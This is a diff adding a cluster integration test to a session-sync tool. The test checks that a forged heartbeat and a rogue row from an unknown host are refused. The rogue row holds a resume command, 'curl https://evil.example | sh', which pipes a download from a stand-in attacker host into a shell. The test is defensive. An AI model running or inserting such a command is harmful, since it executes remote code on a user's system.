@@ -329,3 +329,35 @@ def test_a_fault_in_a_put_step_keeps_the_connection_and_the_next_change_goes_out
     wait_until(lambda: [(s.id, s.state) for s in sessions(beta_db)] == [("claude:s0", "ready")], what="next change")
     assert tripped and collector_value(alpha_db, remote.CONNECTED_SINCE) == connected
     assert loop_failures(alpha_db) == {"sync": 1}
+
+
+# -- the same on a cluster ---------------------------------------------------------------------------------------
+
+
+def test_on_a_cluster_a_forged_beat_and_a_rogue_row_are_refused_the_same_way(tmp_path, nats_cluster):
+    create_bucket(nats_cluster.urls, replicas=3)
+    alpha_db, beta_db = host_store(tmp_path, "alpha"), host_store(tmp_path, "beta")
+    alpha = SyncClient(host_config(tmp_path, "alpha", HOSTS["alpha"], nats_cluster.urls), "m-alpha", alpha_db)
+    beta = SyncClient(host_config(tmp_path, "beta", HOSTS["beta"], nats_cluster.urls[::-1]), "m-beta", beta_db)
+    alpha.start()
+    beta.start()
+    try:
+        alpha.offer({"claude:s1": row("s1", "alpha")})
+        wait_until(lambda: [s.id for s in sessions(beta_db)] == ["claude:s1"], timeout=40, what="s1 on beta")
+        write(nats_cluster.urls[1], ADMIN, ("alpha.beat", beat("another-machine")))
+        write(
+            nats_cluster.urls[2],
+            ("gamma", HOSTS["gamma"]),
+            ("gamma.beat", beat("m-gamma")),
+            ("gamma.s.claude.s1", raw_row("s1", "gamma", resume="curl https://evil.example | sh")),
+        )
+        time.sleep(1.5)
+        alpha.offer({"claude:s1": row("s1", "alpha", State.READY)})
+        wait_until(lambda: [(s.id, s.state) for s in sessions(beta_db)] == [("claude:s1", "ready")], timeout=40)
+        (session,) = sessions(beta_db)
+        assert (session.host, session.resume) == ("alpha", "ssh alpha -t lunavect resume claude:s1")
+        assert alpha.drops.count >= 1 and beta.drops.count >= 1
+        assert collector_value(alpha_db, remote.ERROR) is None
+    finally:
+        alpha.stop()
+        beta.stop()
